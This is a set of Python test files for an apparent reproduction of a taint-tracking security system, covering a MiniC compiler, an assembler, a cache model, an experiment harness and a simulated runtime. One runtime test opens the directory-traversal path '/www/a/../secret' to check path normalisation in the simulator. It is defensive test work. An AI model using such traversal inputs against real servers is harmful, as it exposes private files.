        unit = parse("int add(int a, int b) { return a + b; }")
        func = unit.functions[0]
        assert func.name == "add"
        assert len(func.params) == 2
        assert func.body is not None

    def test_prototype(self):
        unit = parse("int f(int x);")
        assert unit.functions[0].body is None

    def test_native_declaration(self):
        unit = parse("native int read(int fd, char *buf, int n);")
        assert unit.functions[0].is_native

    def test_global_scalar(self):
        unit = parse("int counter = 5;")
        glob = unit.globals[0]
        assert glob.name == "counter"
        assert glob.init.value == 5

    def test_global_array_with_string(self):
        unit = parse('char banner[16] = "hi";')
        assert unit.globals[0].ctype.is_array
        assert unit.globals[0].init.value == b"hi"

    def test_global_int_array_braces(self):
        unit = parse("int t[3] = {1, -2, 3};")
        assert [n.value for n in unit.globals[0].init] == [1, -2, 3]

    def test_pointer_types(self):
        unit = parse("char **argv;")
        ctype = unit.globals[0].ctype
        assert ctype.is_pointer and ctype.pointee.is_pointer

    def test_void_params(self):
        unit = parse("int f(void) { return 0; }")
        assert unit.functions[0].params == []


class TestParserStatements:
    def _body(self, text):
        return parse("int f() {" + text + "}").functions[0].body.statements

    def test_if_else_chain(self):
        stmts = self._body("if (1) { } else if (2) { } else { }")
        assert isinstance(stmts[0], ast.If)
        assert isinstance(stmts[0].otherwise, ast.If)

    def test_while(self):
        stmts = self._body("while (x) x = x - 1;")
        assert isinstance(stmts[0], ast.While)

    def test_for_with_decl(self):
        stmts = self._body("for (int i = 0; i < 10; i++) { }")
        loop = stmts[0]
        assert isinstance(loop, ast.For)
        assert isinstance(loop.init, ast.DeclStmt)

    def test_for_empty_clauses(self):
        stmts = self._body("for (;;) break;")
        loop = stmts[0]
        assert loop.init is None and loop.cond is None and loop.step is None

    def test_break_continue(self):
        stmts = self._body("while (1) { break; continue; }")
        body = stmts[0].body.statements
        assert isinstance(body[0], ast.Break)
        assert isinstance(body[1], ast.Continue)

    def test_local_array_decl(self):
        stmts = self._body("char buf[64];")
        assert stmts[0].ctype.is_array


class TestParserExpressions:
    def _expr(self, text):
        return parse("int f() { return " + text + "; }").functions[0] \
            .body.statements[0].value

    def test_precedence_mul_over_add(self):
        expr = self._expr("1 + 2 * 3")
        assert expr.op == "+"
        assert expr.right.op == "*"

    def test_precedence_shift_below_add(self):
        expr = self._expr("1 << 2 + 3")
        assert expr.op == "<<"

    def test_logical_lowest(self):
        expr = self._expr("a == 1 && b < 2")
        assert expr.op == "&&"

    def test_unary_chain(self):
        expr = self._expr("-~x")
        assert expr.op == "-"
        assert expr.operand.op == "~"

    def test_cast(self):
        expr = self._expr("(char)x")
        assert isinstance(expr, ast.Cast)

    def test_cast_vs_paren(self):
        expr = self._expr("('a' + 1)")
        assert isinstance(expr, ast.Binary)

    def test_sizeof(self):
        expr = self._expr("sizeof(int)")
        assert isinstance(expr, ast.SizeOf)

    def test_index_chain(self):
        expr = self._expr("m[i][j]")
        assert isinstance(expr, ast.Index)
        assert isinstance(expr.base, ast.Index)

    def test_call_args(self):
        expr = self._expr("f(1, x + 2)")
        assert isinstance(expr, ast.Call)
        assert len(expr.args) == 2

    def test_postfix_incdec(self):
        expr = self._expr("x++")
        assert isinstance(expr, ast.IncDec) and not expr.prefix

    def test_assignment_right_associative(self):
        expr = self._expr("a = b = 1")
        assert isinstance(expr, ast.Assign)
        assert isinstance(expr.value, ast.Assign)

    def test_compound_assignment(self):
        expr = self._expr("x += 3")
        assert expr.op == "+="

    def test_address_of_and_deref(self):
        expr = self._expr("*&x")
        assert expr.op == "*"
        assert expr.operand.op == "&"

    def test_error_reports_location(self):
        with pytest.raises(CompileError, match=r"\d+:\d+"):
            parse("int f() { if }")
