"""Differential testing: MiniC programs vs a Python reference evaluator.

Hypothesis generates random expression trees and statement sequences;
each is compiled and executed on the simulator and compared against
C-semantics evaluation done in Python (64-bit two's-complement wraparound,
truncating division, arithmetic right shift).
"""

from hypothesis import given, settings, strategies as st

from tests.conftest import minic_result

MASK64 = (1 << 64) - 1


def to_signed(value):
    value &= MASK64
    return value - (1 << 64) if value >= (1 << 63) else value


def c_div(a, b):
    if b == 0:
        return 0  # simulator defines x/0 = 0
    q = abs(a) // abs(b)
    return -q if (a < 0) != (b < 0) else q


def c_mod(a, b):
    if b == 0:
        return 0
    r = abs(a) % abs(b)
    return -r if a < 0 else r


def c_shl(a, b):
    return to_signed(a << b) if 0 <= b < 64 else 0


def c_shr(a, b):
    return a >> min(b, 63) if b >= 0 else 0


# --- expression tree generation -------------------------------------------

_LEAF = st.integers(min_value=-1000, max_value=1000)

_BINOPS = {
    "+": lambda a, b: to_signed(a + b),
    "-": lambda a, b: to_signed(a - b),
    "*": lambda a, b: to_signed(a * b),
    "&": lambda a, b: a & b,
    "|": lambda a, b: a | b,
    "^": lambda a, b: a ^ b,
}


def _tree(depth):
    if depth == 0:
        return _LEAF
    sub = _tree(depth - 1)
    return st.one_of(
        _LEAF,
        st.tuples(st.sampled_from(sorted(_BINOPS)), sub, sub),
        st.tuples(st.just("/"), sub, st.integers(min_value=1, max_value=50)),
        st.tuples(st.just("%"), sub, st.integers(min_value=1, max_value=50)),
        st.tuples(st.just("<<"), sub, st.integers(min_value=0, max_value=20)),
        st.tuples(st.just(">>"), sub, st.integers(min_value=0, max_value=20)),
        st.tuples(st.just("neg"), sub),
    )


def render(node):
    if isinstance(node, int):
        return f"({node})" if node < 0 else str(node)
    if node[0] == "neg":
        return f"(-{render(node[1])})"
    op, left, right = node
    return f"({render(left)} {op} {render(right)})"


def evaluate(node):
    if isinstance(node, int):
        return node
    if node[0] == "neg":
        return to_signed(-evaluate(node[1]))
    op, left, right = node
    a = evaluate(left)
    b = right if isinstance(right, int) else evaluate(right)
    if op in _BINOPS:
        return _BINOPS[op](a, b)
    if op == "/":
        return c_div(a, b)
    if op == "%":
        return c_mod(a, b)
    if op == "<<":
        return c_shl(a, b)
    if op == ">>":
        return c_shr(a, b)
    raise AssertionError(op)


class TestExpressionDifferential:
    @settings(max_examples=40, deadline=None)
    @given(_tree(3))
    def test_random_expression_matches_reference(self, tree):
        expected = evaluate(tree) & MASK64
        source = f"int main() {{ return {render(tree)}; }}"
        result = minic_result(source, include_libc=False)
        assert result == expected, source


class TestStatementDifferential:
    @settings(max_examples=30, deadline=None)
    @given(
        st.lists(
            st.tuples(
                st.integers(min_value=0, max_value=3),  # target var
                st.sampled_from(["=", "+=", "-=", "*="]),
                st.integers(min_value=0, max_value=3),  # source var
                st.integers(min_value=-50, max_value=50),  # constant
            ),
            min_size=1,
            max_size=15,
        )
    )
    def test_assignment_sequences_match_reference(self, steps):
        env = [1, 2, 3, 4]
        lines = ["int a = 1;", "int b = 2;", "int c = 3;", "int d = 4;"]
        names = "abcd"
        for target, op, source, constant in steps:
            lines.append(f"{names[target]} {op} {names[source]} + {constant};")
            value = env[source] + constant
            if op == "=":
                env[target] = value
            elif op == "+=":
                env[target] = to_signed(env[target] + value)
            elif op == "-=":
                env[target] = to_signed(env[target] - value)
            else:
                env[target] = to_signed(env[target] * value)
        lines.append("return (a ^ b ^ c ^ d) & 0xffff;")
        expected = (env[0] ^ env[1] ^ env[2] ^ env[3]) & 0xFFFF
        source_text = "int main() {\n" + "\n".join(lines) + "\n}"
        assert minic_result(source_text, include_libc=False) == expected

    @settings(max_examples=20, deadline=None)
    @given(
        st.lists(st.integers(min_value=-100, max_value=100), min_size=1, max_size=12),
        st.integers(min_value=1, max_value=12),
    )
    def test_array_sum_loop_matches_reference(self, values, window):
        n = len(values)
        init = ", ".join(str(v) for v in values)
        source = f"""
        int data[{n}] = {{{init}}};
        int main() {{
            int s = 0;
            for (int i = 0; i < {n}; i++) {{
                if (i % {window} == 0) s += data[i] * 2;
                else s -= data[i];
            }}
            return s & 0xffff;
        }}
        """
        expected = 0
        for i, v in enumerate(values):
            expected = expected + 2 * v if i % window == 0 else expected - v
        assert minic_result(source, include_libc=False) == expected & 0xFFFF
