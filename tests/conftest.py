"""Shared test helpers."""

from __future__ import annotations

import pytest

from repro.compiler.instrument import ShiftOptions, UNINSTRUMENTED
from repro.core.shift import build_machine
from repro.taint.policy import PolicyConfig

BYTE_STRICT = ShiftOptions(granularity=1, pointer_policy="strict")
WORD_STRICT = ShiftOptions(granularity=8, pointer_policy="strict")
BYTE_PERMISSIVE = ShiftOptions(granularity=1, pointer_policy="permissive")
WORD_PERMISSIVE = ShiftOptions(granularity=8, pointer_policy="permissive")

ALL_MODES = [UNINSTRUMENTED, BYTE_PERMISSIVE, WORD_PERMISSIVE]
MODE_IDS = ["none", "byte", "word"]


def run_minic(source, options=UNINSTRUMENTED, *, stdin=b"", files=None,
              policy_config=None, include_libc=True, max_instructions=20_000_000):
    """Compile, load and run a MiniC program; returns the Machine."""
    machine = build_machine(
        source,
        options,
        policy_config=policy_config or PolicyConfig(),
        include_libc=include_libc,
        files=files,
        stdin=stdin,
    )
    machine.exit_code = machine.run(max_instructions=max_instructions)
    return machine


def minic_result(source, options=UNINSTRUMENTED, **kwargs):
    """Run a MiniC program and return its exit code."""
    return run_minic(source, options, **kwargs).exit_code


@pytest.fixture(params=ALL_MODES, ids=MODE_IDS)
def any_mode(request):
    """Parametrise a test over uninstrumented / byte / word compilation."""
    return request.param
