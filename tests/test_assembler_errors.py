"""Assembler error handling and diagnostics."""

import pytest

from repro.isa import AssemblerError, assemble, parse_instruction


class TestDiagnostics:
    def test_error_carries_line_number(self):
        with pytest.raises(AssemblerError) as excinfo:
            assemble("""
            func main:
                nop
                frobnicate r1 = r2
            endfunc
            """)
        assert excinfo.value.line_no == 4
        assert "frobnicate" in str(excinfo.value)

    def test_endfunc_without_func(self):
        with pytest.raises(AssemblerError, match="endfunc outside"):
            assemble("endfunc")

    def test_nested_func(self):
        with pytest.raises(AssemblerError, match="nested"):
            assemble("func a:\nfunc b:\nendfunc\nendfunc")

    def test_malformed_store_address(self):
        with pytest.raises(AssemblerError):
            assemble("func main:\n    st8 r12 = r15\nendfunc")

    def test_malformed_load_address(self):
        with pytest.raises(ValueError):
            parse_instruction("ld8 r14 = r13")

    def test_compare_needs_two_predicates(self):
        with pytest.raises(ValueError, match="two predicate"):
            parse_instruction("cmp.eq p6 = r14, r15")

    def test_compare_rejects_gr_targets(self):
        with pytest.raises(ValueError):
            parse_instruction("cmp.eq r6, r7 = r14, r15")

    def test_chk_needs_two_operands(self):
        with pytest.raises(ValueError, match="chk.s"):
            parse_instruction("chk.s r15")

    def test_alu_rejects_two_immediates(self):
        with pytest.raises(ValueError, match="immediate"):
            parse_instruction("add r14 = 1, 2")

    def test_missing_equals(self):
        with pytest.raises(ValueError, match="'='"):
            parse_instruction("add r14, r15, r16")


class TestDataDirective:
    def test_data_with_hex_escape(self):
        program = assemble('data blob, 4, "\\x01\\x02"\nfunc main:\n    nop\nendfunc')
        assert program.data[0].init == b"\x01\x02"

    def test_data_too_small_for_init(self):
        with pytest.raises(ValueError):
            assemble('data tiny, 2, "toolong"\nfunc main:\n    nop\nendfunc')


class TestImmediateForms:
    def test_negative_immediate(self):
        instr = parse_instruction("adds r14 = -8192, r12")
        assert instr.imm == -8192

    def test_hex_immediate(self):
        assert parse_instruction("movl r14 = 0xdeadbeef").imm == 0xDEADBEEF

    def test_break_default_zero(self):
        assert parse_instruction("break").imm == 0
