"""Cache timing-model tests."""

import pytest

from repro.mem.cache import Cache, CacheConfig, CacheHierarchy, HierarchyConfig


class TestSingleCache:
    def test_cold_miss_then_hit(self):
        cache = Cache(CacheConfig(1024, 2, line_bytes=64))
        assert cache.access(0x100) is False
        assert cache.access(0x100) is True
        assert cache.stats.accesses == 2
        assert cache.stats.misses == 1

    def test_same_line_shares(self):
        cache = Cache(CacheConfig(1024, 2, line_bytes=64))
        cache.access(0x100)
        assert cache.access(0x13F) is True  # same 64-byte line

    def test_lru_eviction(self):
        # 2-way set: third distinct line in one set evicts the oldest.
        config = CacheConfig(2 * 64, 2, line_bytes=64)  # one set, two ways
        cache = Cache(config)
        cache.access(0x000)
        cache.access(0x040)
        cache.access(0x000)  # refresh line 0
        cache.access(0x080)  # evicts 0x040 (LRU)
        assert cache.access(0x000) is True
        assert cache.access(0x040) is False

    def test_non_power_of_two_sets_rejected(self):
        with pytest.raises(ValueError):
            Cache(CacheConfig(3 * 64, 1, line_bytes=64))

    def test_miss_rate(self):
        cache = Cache(CacheConfig(1024, 2))
        for _ in range(4):
            cache.access(0)
        assert cache.stats.miss_rate == 0.25


class TestHierarchy:
    def test_l1_hit_is_free(self):
        h = CacheHierarchy()
        h.access(0x1000)
        assert h.access(0x1000) == 0

    def test_miss_costs_l2_latency(self):
        config = HierarchyConfig()
        h = CacheHierarchy(config)
        first = h.access(0x1000)
        assert first == config.memory_latency  # cold: misses both levels

    def test_l2_hit_after_l1_eviction(self):
        config = HierarchyConfig()
        h = CacheHierarchy(config)
        # Touch more distinct lines than L1 can hold, then return.
        lines = config.l1.size_bytes // config.l1.line_bytes
        h.access(0)
        for i in range(1, 4 * lines):
            h.access(i * config.l1.line_bytes)
        cost = h.access(0)
        assert cost in (config.l2_latency, config.l3_latency, config.memory_latency)

    def test_cold_streaming_misses_everywhere(self):
        config = HierarchyConfig()
        h = CacheHierarchy(config)
        span = config.l2.size_bytes * 4
        stalls = sum(h.access(addr) for addr in range(0, span, 64))
        # A cold streaming pass misses every level.
        assert stalls > (span / 64) * config.memory_latency * 0.9

    def test_l3_catches_l2_overflow(self):
        config = HierarchyConfig()
        h = CacheHierarchy(config)
        span = config.l2.size_bytes * 2  # fits in L3, not in L2
        for addr in range(0, span, 64):
            h.access(addr)
        cost = sum(h.access(addr) for addr in range(0, span, 64))
        per_access = cost / (span / 64)
        assert per_access <= config.l3_latency + 1
