"""The example scripts must run cleanly end to end."""

import importlib.util
import pathlib
import sys

import pytest

EXAMPLES = pathlib.Path(__file__).resolve().parent.parent / "examples"


def run_example(name, capsys):
    spec = importlib.util.spec_from_file_location(name, EXAMPLES / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.main()
    return capsys.readouterr().out


class TestExamples:
    def test_quickstart(self, capsys):
        out = run_example("quickstart", capsys)
        assert "DETECTED -> H3" in out
        assert "completed normally" in out

    def test_policy_tuning(self, capsys):
        out = run_example("policy_tuning", capsys)
        assert "DETECTED H1" in out
        assert "allowed" in out
        assert "Directory Traversal" in out  # Table 1 printed

    def test_arch_enhancements(self, capsys):
        out = run_example("arch_enhancements", capsys)
        assert "181.mcf" in out
        assert "stock Itanium" in out

    @pytest.mark.slow
    def test_attack_detection(self, capsys):
        out = run_example("attack_detection", capsys)
        assert "exploit works" in out
        assert "attack defeated" in out
        assert "All attacks detected" in out

    @pytest.mark.slow
    def test_webserver_demo(self, capsys):
        out = run_example("webserver_demo", capsys)
        assert "SECURITY ALERT H2" in out
        assert "overhead" in out

    def test_threads_demo(self, capsys):
        out = run_example("threads_demo", capsys)
        assert "LOST to the torn RMW" in out
        assert "preserved" in out

    def test_struct_corruption(self, capsys):
        out = run_example("struct_corruption", capsys)
        assert "DETECTED -> L2" in out
        assert "delivered ok" in out

    def test_adaptive_server(self, capsys):
        out = run_example("adaptive_server", capsys)
        assert "adaptive (on-demand)" in out
        assert "x faster" in out
        assert "Same alert, same policy, same pc" in out

    def test_fleet_demo(self, capsys):
        out = run_example("fleet_demo", capsys)
        assert "quarantined request" in out
        assert "bit-identical!" in out
        assert "the wire transport is load-bearing" in out

    def test_script_server(self, capsys):
        out = run_example("script_server", capsys)
        assert "stack bytecode" in out
        assert "[H3] SECURITY ALERT" in out
        assert "network 'request#3'" in out
        assert "attack caught, clean traffic served" in out
