"""Experiment-harness tests on reduced workloads."""

import pytest

from repro.harness import (
    PERF_OPTIONS,
    format_baselines,
    format_figure6,
    format_figure7,
    format_figure8,
    format_figure9,
    format_table1_output,
    format_table3,
    geomean,
    run_baseline_comparison,
    run_figure6,
    run_figure7,
    run_figure8,
    run_figure9,
    run_table1,
    run_table3,
    spec_slowdown,
)
from repro.harness.formatting import format_table


class TestFormatting:
    def test_geomean(self):
        assert abs(geomean([2.0, 8.0]) - 4.0) < 1e-9

    def test_geomean_rejects_nonpositive(self):
        with pytest.raises(ValueError):
            geomean([1.0, 0.0])

    def test_format_table_alignment(self):
        text = format_table(["a", "bb"], [[1, 2.5], ["xxx", 4]])
        lines = text.splitlines()
        assert len(lines) == 4
        assert "2.50" in text


class TestFigure6:
    def test_rows_and_mean(self):
        result = run_figure6(sizes_kb=(4, 16), requests=3)
        assert [row.file_kb for row in result.rows] == [4, 16]
        assert -2.0 < result.mean_overhead_percent < 10.0
        text = format_figure6(result)
        assert "4 KB" in text and "geometric-mean" in text


class TestFigure7:
    def test_subset_run(self):
        result = run_figure7(scale="test", benchmarks=["mcf", "crafty"])
        assert len(result.rows) == 2
        for row in result.rows:
            assert row.byte_unsafe >= row.word_unsafe * 0.95
            assert row.byte_unsafe > 1.0
        assert "geo.mean" in format_figure7(result)


class TestFigure8:
    def test_enhancements_reduce_slowdown(self):
        result = run_figure8(scale="test", benchmarks=["gzip"])
        for row in result.rows:
            assert row.both <= row.unsafe
            assert row.set_clear <= row.unsafe * 1.01
        text = format_figure8(result)
        assert "red(both) pts" in text


class TestFigure9:
    def test_breakdown_structure(self):
        result = run_figure9(scale="test", benchmarks=["gzip"], levels=("byte",))
        row = result.rows[0]
        assert row.load_compute > 0
        assert row.load_mem > 0
        # The paper's headline findings:
        assert row.computation_total > row.memory_total
        assert row.load_compute > row.store_compute
        assert "ld compute" in format_figure9(result)


class TestTables:
    def test_table1_static(self):
        assert len(run_table1()) == 8
        assert "H5" in format_table1_output()

    def test_table3_subset(self):
        rows = run_table3(benchmarks=["mcf"], scale="test")
        by_name = {row.name: row for row in rows}
        assert set(by_name) == {"libc", "mcf"}
        mcf = by_name["mcf"]
        assert 0 < mcf.word_overhead_percent < mcf.byte_overhead_percent
        assert "Table 3" in format_table3(rows)


class TestBaselineComparison:
    def test_ordering(self):
        result = run_baseline_comparison(scale="test", benchmarks=["bzip2"])
        row = result.rows[0]
        assert row.shift_word < row.shift_byte < row.lift < row.interpreter
        assert "LIFT-style" in format_baselines(result)


class TestSpecSlowdownHelper:
    def test_checksum_guard(self):
        value = spec_slowdown.__wrapped__ if hasattr(spec_slowdown, "__wrapped__") else None
        # plain functional check:
        from repro.apps.spec import BENCHMARKS
        slowdown = spec_slowdown(BENCHMARKS["crafty"], PERF_OPTIONS["word"], scale="test")
        assert slowdown > 1.0
