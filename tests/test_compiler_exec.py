"""End-to-end MiniC execution semantics.

Every test runs a small program through the full pipeline (parse -> IR
-> regalloc -> codegen -> load -> execute) and checks the exit code.
The ``any_mode`` fixture re-runs a representative subset under byte- and
word-level instrumentation, asserting instrumentation never changes
program results.
"""

import pytest

from tests.conftest import minic_result, run_minic


def expect(source, value, **kwargs):
    assert minic_result(source, include_libc=False, **kwargs) == value


class TestArithmetic:
    def test_constant_return(self):
        expect("int main() { return 42; }", 42)

    def test_precedence(self):
        expect("int main() { return 2 + 3 * 4; }", 14)

    def test_division_and_modulo(self):
        expect("int main() { return 17 / 5 * 100 + 17 % 5; }", 302)

    def test_bitwise(self):
        expect("int main() { return (0xf0 | 0x0f) & 0x3c ^ 0x01; }", 0x3D)

    def test_shifts(self):
        expect("int main() { return (1 << 6) + (256 >> 4); }", 80)

    def test_unary_minus_and_not(self):
        expect("int main() { return -(-5) + ~0 + !0 + !7; }", 5)

    def test_char_arithmetic(self):
        expect("int main() { char c = 'a'; return c + 2 - 'a'; }", 2)

    def test_negative_division_truncates_toward_zero(self):
        expect("int main() { int a = -7; return a / 2 + 10; }", 7)

    def test_cast_to_char_truncates(self):
        expect("int main() { int x = 0x141; return (char)x; }", 0x41)

    def test_sizeof(self):
        expect("int main() { return sizeof(int) + sizeof(char) + sizeof(char*); }", 17)


class TestControlFlow:
    def test_if_else(self):
        expect("""
        int main() {
            int x = 7;
            if (x > 10) { return 1; } else if (x > 5) { return 2; }
            return 3;
        }
        """, 2)

    def test_while_loop(self):
        expect("""
        int main() {
            int i = 0; int s = 0;
            while (i < 10) { s += i; i++; }
            return s;
        }
        """, 45)

    def test_for_loop_with_break_continue(self):
        expect("""
        int main() {
            int s = 0;
            for (int i = 0; i < 100; i++) {
                if (i % 2) continue;
                if (i > 10) break;
                s += i;
            }
            return s;
        }
        """, 30)

    def test_nested_loops(self):
        expect("""
        int main() {
            int total = 0;
            for (int i = 0; i < 5; i++)
                for (int j = 0; j < 5; j++)
                    if (i != j) total++;
            return total;
        }
        """, 20)

    def test_short_circuit_and(self):
        expect("""
        int g;
        int bump() { g++; return 0; }
        int main() { int x = 0 && bump(); return g * 10 + x; }
        """, 0)

    def test_short_circuit_or(self):
        expect("""
        int g;
        int bump() { g++; return 1; }
        int main() { int x = 1 || bump(); return g * 10 + x; }
        """, 1)

    def test_comparison_yields_bool(self):
        expect("int main() { return (3 < 5) + (5 < 3) * 10; }", 1)


class TestFunctions:
    def test_call_with_args(self):
        expect("""
        int add3(int a, int b, int c) { return a + b + c; }
        int main() { return add3(1, 2, 3); }
        """, 6)

    def test_recursion(self):
        expect("""
        int fact(int n) { if (n < 2) return 1; return n * fact(n - 1); }
        int main() { return fact(5); }
        """, 120)

    def test_mutual_recursion(self):
        expect("""
        int is_odd(int n);
        int is_even(int n) { if (n == 0) return 1; return is_odd(n - 1); }
        int is_odd(int n) { if (n == 0) return 0; return is_even(n - 1); }
        int main() { return is_even(10) * 10 + is_odd(7); }
        """, 11)

    def test_void_function(self):
        expect("""
        int g;
        void set(int v) { g = v; }
        int main() { set(9); return g; }
        """, 9)

    def test_many_locals_force_spills(self):
        # More live values than allocatable registers.
        decls = "".join(f"int v{i} = {i};" for i in range(30))
        total = "+".join(f"v{i}" for i in range(30))
        expect(f"int main() {{ {decls} return {total}; }}", sum(range(30)))

    def test_deep_call_chain(self):
        expect("""
        int step(int n) { if (n == 0) return 0; return 1 + step(n - 1); }
        int main() { return step(50); }
        """, 50)

    def test_eight_arguments(self):
        expect("""
        int f(int a, int b, int c, int d, int e, int g, int h, int i) {
            return a + b * 2 + c + d + e + g + h + i;
        }
        int main() { return f(1, 2, 3, 4, 5, 6, 7, 8); }
        """, 38)

    def test_indirect_call(self):
        expect("""
        int twice(int x) { return 2 * x; }
        int main() { int fp = (int)&twice; return __icall(fp, 21); }
        """, 42)


class TestPointersAndArrays:
    def test_global_array(self):
        expect("""
        int table[8];
        int main() {
            for (int i = 0; i < 8; i++) table[i] = i * i;
            return table[5];
        }
        """, 25)

    def test_initialised_global_array(self):
        expect("""
        int primes[4] = {2, 3, 5, 7};
        int main() { return primes[0] + primes[3]; }
        """, 9)

    def test_local_array(self):
        expect("""
        int main() {
            char buf[8];
            buf[0] = 'A';
            buf[1] = buf[0] + 1;
            return buf[1];
        }
        """, ord("B"))

    def test_pointer_deref_and_addrof(self):
        expect("""
        int main() {
            int x = 5;
            int *p = &x;
            *p = *p + 2;
            return x;
        }
        """, 7)

    def test_pointer_arithmetic_scales(self):
        expect("""
        int a[4] = {10, 20, 30, 40};
        int main() {
            int *p = a;
            p = p + 2;
            return *p;
        }
        """, 30)

    def test_pointer_difference(self):
        expect("""
        int a[8];
        int main() {
            int *p = &a[6];
            int *q = &a[1];
            return p - q;
        }
        """, 5)

    def test_char_pointer_walk(self):
        expect("""
        char s[8] = "abc";
        int main() {
            char *p = s;
            int n = 0;
            while (*p) { n++; p++; }
            return n;
        }
        """, 3)

    def test_string_literal(self):
        expect("""
        int main() {
            char *s = "hi!";
            return s[0] + s[2] - s[0];
        }
        """, ord("!") - 0)

    def test_address_taken_local(self):
        expect("""
        void bump(int *p) { *p = *p + 1; }
        int main() {
            int x = 41;
            bump(&x);
            return x;
        }
        """, 42)

    def test_global_scalar_assignment(self):
        expect("""
        int g = 7;
        int main() { g += 3; return g; }
        """, 10)

    def test_incdec_on_memory(self):
        expect("""
        int a[2] = {5, 0};
        int main() {
            a[1] = a[0]++;
            return a[0] * 10 + a[1];
        }
        """, 65)

    def test_prefix_vs_postfix(self):
        expect("""
        int main() {
            int i = 3;
            int a = i++;
            int b = ++i;
            return a * 10 + b;
        }
        """, 35)


class TestModesAgree:
    """Instrumentation must never change program results."""

    SOURCE = """
    native int read(int fd, char *buf, int n);
    char data[64];
    int fib(int n) { if (n < 2) return n; return fib(n-1) + fib(n-2); }
    int main() {
        int n = read(0, data, 32);
        int acc = fib(10);
        for (int i = 0; i < n; i++) acc += data[i] * (i + 1);
        int *p = (int *)data;
        acc += (int)(*p & 0xff);
        return acc % 251;
    }
    """

    def test_same_result_all_modes(self, any_mode):
        result = minic_result(self.SOURCE, any_mode, stdin=b"speculative hardware")
        baseline = minic_result(self.SOURCE, stdin=b"speculative hardware")
        assert result == baseline


class TestDiagnostics:
    def test_undefined_variable(self):
        from repro.compiler.errors import CompileError
        with pytest.raises(CompileError, match="undefined identifier"):
            minic_result("int main() { return nope; }", include_libc=False)

    def test_undeclared_function(self):
        from repro.compiler.errors import CompileError
        with pytest.raises(CompileError, match="undeclared function"):
            minic_result("int main() { return mystery(1); }", include_libc=False)

    def test_wrong_arity(self):
        from repro.compiler.errors import CompileError
        with pytest.raises(CompileError, match="expects"):
            minic_result("""
            int f(int a) { return a; }
            int main() { return f(1, 2); }
            """, include_libc=False)

    def test_missing_main(self):
        with pytest.raises(ValueError, match="no main"):
            minic_result("int helper() { return 1; }", include_libc=False)
