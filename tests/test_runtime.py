"""Guest-OS tests: syscalls, natives, devices, loader."""

import pytest

from repro.runtime.devices import DeviceCosts, SimFileSystem, SimNetwork
from repro.runtime.machine import LoaderError
from tests.conftest import run_minic

NATIVES = """
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int write(int fd, char *buf, int n);
native int close(int fd);
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native char *malloc(int n);
native int rand();
native void srand(int seed);
native void console_log(char *s);
"""


class TestFileIO:
    def test_read_existing_file(self):
        m = run_minic(NATIVES + """
        char buf[64];
        int main() {
            int fd = open("/hello.txt", 0);
            int n = read(fd, buf, 64);
            close(fd);
            return n;
        }
        """, files={"/hello.txt": b"file contents"})
        assert m.exit_code == 13
        assert m.read_string("buf") == b"file contents"

    def test_open_missing_file_fails(self):
        m = run_minic(NATIVES + """
        int main() { return open("/absent", 0) + 100; }
        """)
        assert m.exit_code == 99

    def test_write_file_visible_after_close(self):
        m = run_minic(NATIVES + """
        int main() {
            int fd = open("/out.txt", 1);
            write(fd, "written!", 8);
            close(fd);
            return 0;
        }
        """)
        assert m.fs.read("/out.txt") == b"written!"

    def test_incremental_reads(self):
        m = run_minic(NATIVES + """
        char a[8];
        char b[8];
        int main() {
            int fd = open("/f", 0);
            read(fd, a, 4);
            read(fd, b, 4);
            close(fd);
            return 0;
        }
        """, files={"/f": b"AAAABBBB"})
        assert m.read_string("a")[:4] == b"AAAA"
        assert m.read_string("b")[:4] == b"BBBB"

    def test_stdout_write_reaches_console(self):
        m = run_minic(NATIVES + """
        int main() { return write(1, "to console", 10); }
        """)
        assert m.console.text == "to console"

    def test_console_log(self):
        m = run_minic(NATIVES + """
        int main() { console_log("hello log"); return 0; }
        """)
        assert "hello log\n" in m.console.text

    def test_path_normalisation(self):
        m = run_minic(NATIVES + """
        char buf[32];
        int main() {
            int fd = open("/www/a/../secret", 0);
            return read(fd, buf, 32);
        }
        """, files={"/www/secret": b"norm"})
        assert m.exit_code == 4


class TestNetwork:
    def test_accept_recv_send_cycle(self):
        from repro.core.shift import build_machine
        m = build_machine(NATIVES + """
        char buf[64];
        int main() {
            int served = 0;
            int fd;
            while ((fd = accept()) >= 0) {
                int n = recv(fd, buf, 64);
                send(fd, buf, n);
                served++;
            }
            return served;
        }
        """)
        m.net.add_request(b"ping-1")
        m.net.add_request(b"ping-2")
        assert m.run() == 2
        assert bytes(m.net.completed[0].outbound) == b"ping-1"
        assert bytes(m.net.completed[1].outbound) == b"ping-2"

    def test_accept_returns_minus_one_when_drained(self):
        m = run_minic(NATIVES + "int main() { return accept(); }")
        assert m.exit_code & 0xFF == 0xFF  # -1 low byte


class TestMemoryNatives:
    def test_malloc_returns_distinct_chunks(self):
        m = run_minic(NATIVES + """
        int main() {
            char *a = malloc(100);
            char *b = malloc(100);
            a[0] = 'x';
            b[0] = 'y';
            return (b - a) >= 100 && a[0] == 'x';
        }
        """)
        assert m.exit_code == 1

    def test_rand_deterministic_with_seed(self):
        src = NATIVES + """
        int main() { srand(7); return rand() % 100; }
        """
        assert run_minic(src).exit_code == run_minic(src).exit_code


class TestDevices:
    def test_filesystem(self):
        fs = SimFileSystem({"/a": b"1"})
        assert fs.exists("/a") and not fs.exists("/b")
        fs.append("/a", b"2")
        assert fs.read("/a") == b"12"

    def test_network_fifo_order(self):
        net = SimNetwork()
        net.add_request(b"first")
        net.add_request(b"second")
        assert net.accept().inbound == b"first"
        assert net.accept().inbound == b"second"
        assert net.accept() is None

    def test_connection_recv_chunks(self):
        net = SimNetwork()
        conn = net.add_request(b"abcdef")
        net.accept()
        assert conn.recv(4) == b"abcd"
        assert conn.recv(4) == b"ef"
        assert conn.recv(4) == b""


class TestIOCosts:
    def test_io_cycles_accumulate(self):
        m = run_minic(NATIVES + """
        char buf[64];
        int main() {
            int fd = open("/f", 0);
            read(fd, buf, 64);
            close(fd);
            return 0;
        }
        """, files={"/f": b"x" * 64})
        costs = DeviceCosts()
        assert m.counters.io_cycles >= costs.open_cost + costs.file_base

    def test_bigger_transfers_cost_more(self):
        def io_for(n):
            m = run_minic(NATIVES + f"""
            char buf[2048];
            int main() {{
                int fd = open("/f", 0);
                read(fd, buf, {n});
                return 0;
            }}
            """, files={"/f": b"y" * 2048})
            return m.counters.io_cycles
        assert io_for(2048) > io_for(64)


class TestLoader:
    def test_unknown_symbol_lookup_raises(self):
